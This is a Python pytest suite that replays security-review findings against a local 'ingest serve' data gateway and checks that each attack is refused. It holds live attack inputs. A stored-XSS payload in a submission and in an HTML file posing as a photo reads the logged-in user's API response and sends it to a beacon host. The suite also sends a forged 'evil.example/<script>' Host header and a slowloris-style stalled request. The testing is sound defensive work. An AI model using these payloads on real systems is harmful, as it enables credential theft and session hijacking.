"""Security checks against a real `ingest serve`, with a real browser where a browser is the victim.

Each test is one finding of the outside review, replayed as the attacker did it, and shows the
attack refused. Run through run.sh (INGEST_E2E_BIN, INGEST_E2E_REPO).
"""

import http.client
import http.server
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest
import requests

REPO = Path(os.environ.get("INGEST_E2E_REPO", Path(__file__).resolve().parents[2]))
BIN = os.environ.get("INGEST_E2E_BIN", str(REPO / ".build/debug/ingest"))
XFORMS = REPO / "SampleForms" / "xforms"
EMAIL = "security-admin@example.org"
PASSWORD = "a long administrator passphrase"
OPENROSA = {"X-OpenRosa-Version": "1.0"}
TIMEOUT = 15
HEADER_TIMEOUT = 2


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def gateway():
    """A server with a short request-head timeout, an administrator, a project with site_photo, an app user."""
    with tempfile.TemporaryDirectory(prefix="ingest-security-") as tmp:
        tmp = Path(tmp)
        db = tmp / "gateway.sqlite"
        created = subprocess.run([BIN, "user-create", "--db", str(db), "--email", EMAIL, "--admin"],
                                 capture_output=True, text=True, timeout=30, env={**os.environ, "INGEST_PASSWORD": PASSWORD})
        assert created.returncode == 0, created.stdout + created.stderr
        port = _free_port()
        base = f"http://127.0.0.1:{port}"
        log = open(tmp / "server.log", "wb")
        proc = subprocess.Popen([BIN, "serve", "--db", str(db), "--port", str(port),
                                 "--header-timeout-seconds", str(HEADER_TIMEOUT), "--scratch-dir", str(tmp / "scratch")],
                                stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 30
            while True:
                assert proc.poll() is None, (tmp / "server.log").read_text(errors="replace")
                try:
                    if requests.get(f"{base}/healthz", timeout=2).status_code == 200:
                        break
                except requests.RequestException:
                    pass
                assert time.monotonic() < deadline, "server did not come up"
                time.sleep(0.1)
            token = requests.post(f"{base}/v1/sessions", json={"email": EMAIL, "password": PASSWORD},
                                  timeout=TIMEOUT).json()["token"]
            auth = {"Authorization": f"Bearer {token}"}
            project = requests.post(f"{base}/v1/projects", json={"name": "Security"}, headers=auth, timeout=TIMEOUT).json()["id"]
            form = (XFORMS / "site_photo.xml").read_bytes()
            r = requests.post(f"{base}/v1/projects/{project}/forms?publish=true", data=form,
                              headers={**auth, "Content-Type": "application/xml"}, timeout=TIMEOUT)
            assert r.status_code == 200, r.text
            phone = requests.post(f"{base}/v1/projects/{project}/app-users", json={"displayName": "Phone"},
                                  headers=auth, timeout=TIMEOUT).json()
            r = requests.post(f"{base}/v1/projects/{project}/forms/site_photo/assignments/app-user/{phone['id']}",
                              headers=auth, timeout=TIMEOUT)
            assert r.status_code == 200, r.text
            key = phone["token"]
            yield {"base": base, "port": port, "auth": auth, "project": project, "key": key, "tmp": tmp}
        finally:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
            log.close()


class Beacon:
    """A loopback HTTP server that records every request a script in the browser makes to it, and can
    serve a document itself (the control: the same bytes without the gateway's headers)."""

    def __init__(self):
        self.hits: list[str] = []
        self.documents: dict[str, tuple[str, bytes]] = {}
        beacon = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path in beacon.documents:
                    kind, body = beacon.documents[self.path]
                    self.send_response(200)
                    self.send_header("Content-Type", kind)
                    self.end_headers()
                    self.wfile.write(body)
                    return
                beacon.hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def script(self, tag: str) -> str:
        """JavaScript that reports that it ran, then what the API answered it with the page's credentials."""
        return (f"new Image().src='http://127.0.0.1:{self.port}/ran-{tag}';"
                "fetch('/v1/users/current',{credentials:'include'}).then(function(r){return r.text()})"
                f".then(function(t){{new Image().src='http://127.0.0.1:{self.port}/api-{tag}?'+encodeURIComponent(t)}});")

    def wait_for(self, prefix: str, seconds: float) -> list[str]:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            found = [hit for hit in self.hits if hit.startswith(prefix)]
            if found:
                return found
            time.sleep(0.1)
        return [hit for hit in self.hits if hit.startswith(prefix)]

    def close(self):
        self.server.shutdown()


def _submission_with_script(script: str, instance: str) -> bytes:
    """A site_photo submission carrying an XHTML script element the form never declared: accepted, as
    Central accepts unknown elements, and rendered as a page by a browser that is allowed to."""
    return ("<?xml version='1.0'?>"
            '<data xmlns:h="http://www.w3.org/1999/xhtml" id="site_photo" version="1">'
            "<description>Oak stand</description><location>-1.2 36.8 1661 5</location><photo>tree.jpg</photo>"
            f"<h:script>{script}</h:script>"
            f"<meta><instanceID>{instance}</instanceID></meta></data>").encode()


def _openrosa_submit(gateway, xml: bytes, files=()):
    parts = [("xml_submission_file", ("submission.xml", xml, "text/xml"))]
    parts += [(name, (name, data, kind)) for name, data, kind in files]
    url = f"{gateway['base']}/v1/key/{gateway['key']}/projects/{gateway['project']}/submission"
    return requests.post(url, files=parts, headers=OPENROSA, timeout=TIMEOUT)


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver_path = shutil.which("chromedriver")
    if chromium is None or driver_path is None:
        pytest.fail("Chromium and chromedriver are needed (scripts/test.sh installs chromium and chromium-driver)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for flag in ["--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1200,900", "--disable-dev-shm-usage"]:
        options.add_argument(flag)
    options.add_experimental_option("prefs", {"download.default_directory": tempfile.mkdtemp(prefix="ingest-downloads-"),
                                              "download.prompt_for_download": False})
    driver = webdriver.Chrome(service=Service(executable_path=driver_path), options=options)
    driver.set_page_load_timeout(30)
    yield driver
    driver.quit()


def _dashboard_login(browser, gateway):
    from selenium.webdriver.common.by import By
    browser.get(f"{gateway['base']}/dashboard")
    if "Backlog" in browser.page_source:
        return  # the cookie of an earlier login is still good
    assert browser.current_url.endswith("/dashboard/login"), browser.current_url
    browser.find_element(By.NAME, "email").send_keys(EMAIL)
    browser.find_element(By.NAME, "password").send_keys(PASSWORD)
    browser.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    deadline = time.monotonic() + 15
    while "Backlog" not in browser.page_source and time.monotonic() < deadline:
        time.sleep(0.1)
    assert "Backlog" in browser.page_source, browser.page_source[:2000]


def test_dashboard_login_in_a_real_browser_keeps_its_cookie_to_the_dashboard(gateway, browser):
    _dashboard_login(browser, gateway)
    cookies = {c["name"]: c for c in browser.get_cookies()}
    cookie = cookies["ingest_dashboard"]
    assert cookie["httpOnly"] is True and cookie["sameSite"] == "Strict" and cookie["path"] == "/dashboard"
    assert "Conflicts awaiting review" in browser.page_source
    shot = REPO / ".build" / "dashboard.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    browser.save_screenshot(str(shot))
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 5000
    # Logged in to the dashboard, the browser is not logged in to the API.
    browser.get(f"{gateway['base']}/v1/users/current")
    assert "401.2" in browser.page_source


def test_stored_script_does_not_run_in_an_administrators_browser(gateway, browser):
    beacon = Beacon()
    try:
        instance = "uuid:5ec00000-0000-4000-8000-000000000001"
        xml = _submission_with_script(beacon.script("xml"), instance)
        page = f"<html><body><script>{beacon.script('attachment')}</script></body></html>".encode()
        sent = _openrosa_submit(gateway, xml, files=[("tree.jpg", page, "text/html")])
        assert sent.status_code == 201, sent.text

        # Control: the same bytes served without the gateway's headers run their script in this browser.
        beacon.documents["/control.xml"] = ("application/xml", _submission_with_script(beacon.script("control"), instance))
        browser.get(f"http://127.0.0.1:{beacon.port}/control.xml")
        assert beacon.wait_for("/ran-control", 10), "the control document did not run: the check could not fail"

        _dashboard_login(browser, gateway)
        # The strongest case: the browser sends the administrator's credentials with every request to /v1,
        # as it did when the dashboard's Basic challenge had it keep them for the whole origin.
        browser.execute_cdp_cmd("Network.enable", {})
        browser.execute_cdp_cmd("Network.setExtraHTTPHeaders", {"headers": gateway["auth"]})
        try:
            submission = f"{gateway['base']}/v1/projects/{gateway['project']}/forms/site_photo/submissions/{instance}"
            for url in [f"{submission}.xml", f"{submission}/attachments/tree.jpg"]:
                try:
                    browser.get(url)
                except Exception:
                    pass  # a download instead of a page ends the navigation without a document
            time.sleep(3)
        finally:
            browser.execute_cdp_cmd("Network.setExtraHTTPHeaders", {"headers": {}})
        assert beacon.wait_for("/ran-", 1) == ["/ran-control"], beacon.hits
        assert beacon.wait_for("/api-", 0.1) in ([], ["/api-control?"]), beacon.hits
    finally:
        beacon.close()


def test_stored_answers_carry_headers_that_forbid_running_them(gateway):
    instance = "uuid:5ec00000-0000-4000-8000-000000000002"
    sent = _openrosa_submit(gateway, _submission_with_script("alert(1)", instance))
    assert sent.status_code == 201, sent.text
    r = requests.get(f"{gateway['base']}/v1/projects/{gateway['project']}/forms/site_photo/submissions/{instance}.xml",
                     headers=gateway["auth"], timeout=TIMEOUT)
    assert r.status_code == 200
    assert "sandbox" in r.headers["Content-Security-Policy"] and "default-src 'none'" in r.headers["Content-Security-Policy"]
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Disposition"].startswith('attachment; filename="uuid:5ec00000')


def test_a_connection_that_does_not_finish_its_headers_is_closed(gateway):
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", gateway["port"]), timeout=HEADER_TIMEOUT * 5) as slow:
        slow.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        assert slow.recv(1024) == b"", "the server should close, not answer"
    assert time.monotonic() - started < HEADER_TIMEOUT * 4
    with socket.create_connection(("127.0.0.1", gateway["port"]), timeout=HEADER_TIMEOUT * 5) as idle:
        idle.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        answer = idle.recv(4096)
        assert answer.startswith(b"HTTP/1.1 200")
        assert idle.recv(1024) == b"", "an idle kept-alive connection is closed after the timeout too"


def test_a_forged_host_is_not_written_into_the_urls_handed_out(gateway):
    connection = http.client.HTTPConnection("127.0.0.1", gateway["port"], timeout=TIMEOUT)
    connection.putrequest("GET", f"/v1/key/{gateway['key']}/projects/{gateway['project']}/formList", skip_host=True)
    connection.putheader("Host", "evil.example/<script>")
    connection.putheader("X-OpenRosa-Version", "1.0")
    connection.putheader("X-Forwarded-Proto", "javascript")
    connection.endheaders()
    response = connection.getresponse()
    body = response.read().decode()
    connection.close()
    if response.status == 200:
        assert "evil.example" not in body and "javascript" not in body
        assert f"<downloadUrl>http://127.0.0.1:{gateway['port']}/" in body
    else:
        assert response.status == 400  # refused outright by the HTTP layer is fine too


def test_user_create_prefers_the_environment_or_stdin_and_checks_the_passwords_length(gateway):
    db = gateway["tmp"] / "users.sqlite"

    def create(email, password=None, stdin=None, extra=()):
        env = {k: v for k, v in os.environ.items() if k != "INGEST_PASSWORD"}
        if password is not None:
            env["INGEST_PASSWORD"] = password
        return subprocess.run([BIN, "user-create", "--db", str(db), "--email", email, *extra], input=stdin,
                              capture_output=True, text=True, timeout=30, env=env)

    on_command_line = create("a@example.org", extra=["--password", "a long enough password"])
    assert on_command_line.returncode == 0 and "visible to every local user" in on_command_line.stderr
    assert create("f@example.org", extra=["--password", "short"]).returncode != 0
    short = create("b@example.org", password="too short")
    assert short.returncode != 0 and "at least 10" in short.stderr
    long = create("c@example.org", password="x" * 73)
    assert long.returncode != 0 and "72 bytes" in long.stderr
    assert create("d@example.org", password="ten chars!").returncode == 0
    piped = create("e@example.org", stdin="a password from stdin\n", extra=["--password-stdin"])
    assert piped.returncode == 0, piped.stderr
